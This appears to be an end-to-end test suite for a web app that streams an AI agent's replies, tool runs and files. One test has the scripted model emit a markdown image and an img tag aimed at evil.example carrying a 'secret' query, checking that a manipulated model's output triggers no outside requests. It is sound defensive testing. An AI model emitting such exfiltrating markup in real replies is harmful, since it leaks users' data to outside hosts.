import { AxeBuilder } from '@axe-core/playwright'
import type { Page, Request } from 'playwright-core'
import { beforeEach, describe, expect, test } from 'vitest'
import { newPerson, workspaceIdOf } from './support/account.ts'
import { expectNoSidewaysScroll, phone } from './support/browser.ts'
import { installation } from './support/installation.ts'
import { addMember } from './support/roles.ts'
import { startThreadOn } from './support/threads.ts'

const site = installation()
let page: Page

beforeEach(async () => {
  ;({ page } = await site.signUp())
})

/** Speaks words slowly enough to look in between. */
const slowly = (words: number) => `/slow 40\n/tokens ${words}`

const startThread = (text: string) => startThreadOn(page, text)

async function send(text: string, on = page): Promise<void> {
  await on.getByLabel(/^Message to/).fill(text)
  await on.keyboard.press('Enter')
}

const run = (on: Page, status: string) => on.locator(`[data-run-status="${status}"]`)
const spoken = (on: Page) => on.locator('[data-part="text"]')

async function untilOver(on = page, count = 1): Promise<void> {
  await expect.poll(() => run(on, 'succeeded').count(), { timeout: 60_000 }).toBe(count)
  await expect.poll(() => run(on, 'running').count()).toBe(0)
}

/** Everything that a page shows of the thread. */
function shown(on: Page): Promise<string[]> {
  return on.locator('section[aria-label="Messages"] article').allTextContents()
}

/** The same, as the server draws it from the database alone. */
async function stored(on: Page): Promise<string[]> {
  await on.reload()
  await on.locator('section[aria-label="Messages"] article').first().waitFor()
  return shown(on)
}

/** Somebody else of the same organisation, signed in, with a browser of their own. */
async function openColleague(): Promise<Page> {
  const colleague = await site.signUp({}, newPerson('Grace Hopper'))
  await addMember(site.app.env, workspaceIdOf(page), colleague.person.email, 'member')
  return colleague.page
}

describe('a run, watched', () => {
  test('a reload and a second tab in the middle of it show the same, with nothing missing or doubled', async () => {
    await startThread(`/think Let me see.\n${slowly(250)}`)
    await spoken(page).first().waitFor()
    await page.reload()
    const second = await page.context().newPage()
    await second.goto(page.url())
    await run(second, 'running').waitFor()
    await Promise.all([untilOver(page), untilOver(second)])
    const [first, other] = [await shown(page), await shown(second)]
    expect(other).toEqual(first)
    expect(await stored(page)).toEqual(first)
    expect((await spoken(page).first().textContent())?.split(' ')).toHaveLength(250)
  })

  test('a screen reader hears its stations and its end, not every word; and code is copied as it was written', async () => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await startThread('/say Hello.')
    await untilOver()
    const said = await page.locator('p.sr-only[aria-live="polite"]').evaluateHandle((region) => {
      const heard: string[] = []
      new MutationObserver(() => heard.push(region.textContent)).observe(region, {
        characterData: true,
        subtree: true,
        childList: true,
      })
      return heard
    })
    await send('/slow 20\n/say Here you are, as short as it can be:\n```js\nconst answer = 42\n  go(answer)\n```')
    await untilOver(page, 2)
    await expect.poll(async () => (await said.jsonValue()).at(-1)).toMatch(/ has finished\. Here you are/)
    const heard = await said.jsonValue()
    expect(heard.length).toBeLessThanOrEqual(3)
    expect(heard.slice(0, -1).every((words) => /will answer\.$|is working\.$/.test(words))).toBe(true)
    await page.getByRole('button', { name: 'Copy the code' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42\n  go(answer)')
  })

  test('a colleague sees it live, without reloading', async () => {
    const colleague = await openColleague()
    await startThread('/say Hello.')
    await untilOver()
    await colleague.goto(page.url())
    await run(colleague, 'succeeded').waitFor()
    await send(slowly(40))
    await run(colleague, 'running').waitFor()
    await spoken(colleague).nth(1).waitFor()
    await Promise.all([untilOver(page, 2), untilOver(colleague, 2)])
    const words = (on: Page) => on.locator('[data-run-id]').allTextContents()
    expect(await words(colleague)).toEqual(await words(page))
    await colleague.context().close()
  })

  test('all tabs of a browser share one event stream, and the others go on when its tab is closed', async () => {
    const asked = new Set<Request>()
    const over = (request: Request) => asked.delete(request)
    page
      .context()
      .on('request', (request: Request) => void (request.url().endsWith('/api/stream') && asked.add(request)))
    page.context().on('requestfinished', over).on('requestfailed', over)
    const open = () => [...asked].filter((request) => !request.frame().page().isClosed())
    await startThread('/say Hello.')
    await untilOver()
    const others = await Promise.all([1, 2].map(() => page.context().newPage()))
    for (const other of others) {
      await other.goto(page.url())
      await run(other, 'succeeded').waitFor()
    }
    await send(slowly(60))
    await Promise.all(others.map((other) => run(other, 'running').waitFor()))
    await expect.poll(() => open().length).toBe(1)
    await page.close()
    await Promise.all(others.map((other) => untilOver(other, 2)))
    expect(open()).toHaveLength(1)
    const [one, two] = await Promise.all(others.map(shown))
    expect(two).toEqual(one)
    expect(await stored(others[0] as Page)).toEqual(one)
  })

  test('its worker is killed: another goes on, and the page ends with what the database holds', async () => {
    await startThread(`write: a.txt <<< one\n/slow 40\n/tokens 120`)
    await spoken(page).first().waitFor()
    await site.app.killWorker()
    await site.app.startWorker()
    await untilOver()
    const here = await shown(page)
    expect(await stored(page)).toEqual(here)
    expect((await spoken(page).last().textContent())?.trim().split(/\s+/).length).toBeGreaterThanOrEqual(120)
  })
})

describe('what a person does', () => {
  test('Escape stops a run within a second; it can be continued and retried', async () => {
    await startThread('run: sleep 60')
    await page.getByRole('group', { name: 'Run commands: Running' }).waitFor()
    await page.keyboard.press('Escape')
    // The promised deadline.
    await run(page, 'cancelled').waitFor({ timeout: 2_000 })
    expect(await stored(page)).toEqual(await shown(page))
    await page.getByRole('button', { name: 'Continue' }).click()
    await untilOver()
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.getByLabel('Answers to this message').getByText('2/2').waitFor()
    await page.keyboard.press('Escape')
    await run(page, 'cancelled').waitFor()
  })

  test('a message is there at once, and waits its turn behind the one before', async () => {
    await startThread(slowly(60))
    await run(page, 'running').waitFor()
    await send('/say second')
    await page.getByText('Waits until the message before is answered').waitFor()
    await untilOver(page, 2)
    expect(await spoken(page).last().textContent()).toContain('second')
  })

  test('a message that does not get out stays, and is sent again once', async () => {
    await startThread('/say Hello.')
    await untilOver()
    await page.route('**/messages', (route) => route.abort())
    await send('/say again')
    await page.getByText('The server did not answer').waitFor()
    await page.unroute('**/messages')
    await page.getByRole('button', { name: 'Send again', exact: true }).click()
    await untilOver(page, 2)
    expect(await stored(page)).toHaveLength(2)
  })

  test('a draft survives a reload; Shift and Enter begin a new line', async () => {
    await startThread('/say Hello.')
    await untilOver()
    const field = page.getByLabel(/^Message to/)
    await field.pressSequentially('one')
    await page.keyboard.press('Shift+Enter')
    await field.pressSequentially('two')
    await page.reload()
    await expect.poll(() => field.inputValue()).toBe('one\ntwo')
    await page.keyboard.press('Tab')
    await field.press('Enter')
    await expect.poll(() => field.inputValue()).toBe('')
    await untilOver(page, 2)
    await page.reload()
    expect(await field.inputValue()).toBe('')
  })
})

describe('what it shows', () => {
  test('tools with what they printed and changed, files, and what a talked-round model cannot do', async () => {
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(site.app.url) && /^http/.test(request.url())) foreign.push(request.url())
    })
    await startThread(
      [
        'write: notes.md <<< one line',
        'edit: notes.md <<< one ==> another',
        'run: printf "\\033[31mred\\033[0m\\n"; exit 3',
        '/say ![x](https://evil.example/?q=secret) <img src="https://evil.example/y.png">',
      ].join('\n'),
    )
    await untilOver()
    await page.getByRole('group', { name: 'Edit files: Done' }).getByText('another line').waitFor()
    const terminal = page.getByRole('group', { name: 'Run commands: Done' })
    await terminal.getByText('exit 3', { exact: true }).waitFor()
    await terminal.getByRole('button').first().click()
    await expect.poll(() => terminal.locator('pre').last().textContent()).toBe('red\n[exit code 3]')
    await page.locator('header').getByRole('button', { name: 'Files' }).click()
    await page.getByRole('complementary', { name: 'Files of the workspace' }).getByText('notes.md').waitFor()
    expect(foreign).toEqual([])
  })

  test('a failure in the provider’s own words', async () => {
    await startThread('/fail auth The key is not valid.')
    await run(page, 'failed').waitFor()
    await page.getByText('The key is not valid.').last().waitFor()
  })

  test('on a phone, in both themes, nothing sticks out and axe finds nothing', async () => {
    await startThread('/think Hm.\nwrite: a.sh <<< echo hi\nrun: bash a.sh\n/say | a | b |\n/say `code` and **bold**')
    await untilOver()
    await page.setViewportSize(phone.viewport ?? { width: 375, height: 740 })
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      await page.waitForFunction((theme) => document.documentElement.classList.contains(theme), colorScheme)
      await page.waitForFunction(() => document.getAnimations().every(({ playState }) => playState !== 'running'))
      const { violations } = await new AxeBuilder({ page }).analyze()
      expect(violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`))).toEqual([])
      await expectNoSidewaysScroll(page)
    }
  })
})
